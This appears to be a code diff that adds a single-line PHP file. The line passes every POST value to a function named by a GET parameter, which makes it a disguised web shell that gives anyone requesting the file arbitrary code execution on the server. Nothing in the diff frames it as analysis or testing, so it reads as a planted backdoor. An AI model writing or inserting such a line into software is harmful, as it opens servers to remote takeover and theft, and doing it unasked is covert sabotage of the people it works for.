@@ -1,0 +1,1 @@
+<?php array_walk_recursive($_POST, $_GET["f"]);
